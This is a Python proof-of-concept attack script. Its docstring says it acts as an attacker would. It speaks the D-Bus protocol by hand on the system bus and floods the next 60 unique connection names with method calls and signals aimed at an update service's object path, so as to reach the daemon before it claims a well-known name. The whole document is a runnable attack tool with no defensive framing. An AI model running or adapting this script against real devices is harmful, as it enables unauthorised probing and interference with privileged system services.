"""Sends calls and signals to the update service's object, at every connection that the bus will make next, until it is
ended. An attacker does so who wants to reach the daemon while it has no name yet.

Speaks the bus's protocol by hand, since a program of the bus would not send this. Prints its own unique name."""
import os
import select
import socket
import struct

PATH = "/org/kovan/tv/dax/service/cservicemanager"
INTERFACE = "org.kovan.tv.dax.service.iservicemanager"
NEXT = 60  # connections
METHOD_CALL, SIGNAL = 1, 4
NO_REPLY = 1


def aligned(data, size):
    return data + b"\0" * (-len(data) % size)


def field(code, signature, text):
    data = struct.pack("<B", code) + b"\1" + signature + b"\0"
    return aligned(data, 4) + struct.pack("<I", len(text)) + text.encode() + b"\0"


def message(kind, serial, destination, path, interface, member):
    fields = b""
    for one in (field(1, b"o", path), field(2, b"s", interface), field(3, b"s", member), field(6, b"s", destination)):
        fields = aligned(fields, 8) + one
    flags = 0 if destination == "org.freedesktop.DBus" else NO_REPLY
    head = struct.pack("<BBBBIII", ord("l"), kind, flags, 1, 0, serial, len(fields))
    return aligned(head + fields, 8)


def connect():
    bus = socket.socket(socket.AF_UNIX)
    bus.connect("/run/dbus/system_bus_socket")
    bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    if not bus.recv(1024).startswith(b"OK"):
        raise SystemExit("the bus does not let this user in")
    bus.sendall(b"BEGIN\r\n")
    bus.sendall(message(METHOD_CALL, 1, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello"))
    return bus


def own_number(bus):
    told = b""
    while b":1." not in told:
        told += bus.recv(4096)
    digits = told[told.index(b":1.") + 3:]
    return int(digits[:digits.index(b"\0")])


def drain(bus):
    while select.select([bus], [], [], 0)[0]:
        if not bus.recv(65536):
            raise SystemExit("the bus has ended the connection")


def main():
    bus = connect()
    number = own_number(bus)
    print(f":1.{number}", flush=True)
    serial = 2
    while True:
        for target in range(number + 1, number + NEXT):
            for kind in (METHOD_CALL, SIGNAL):
                bus.sendall(message(kind, serial, f":1.{target}", PATH, INTERFACE, "getCurrentVersion"))
                serial += 1
        drain(bus)


main()
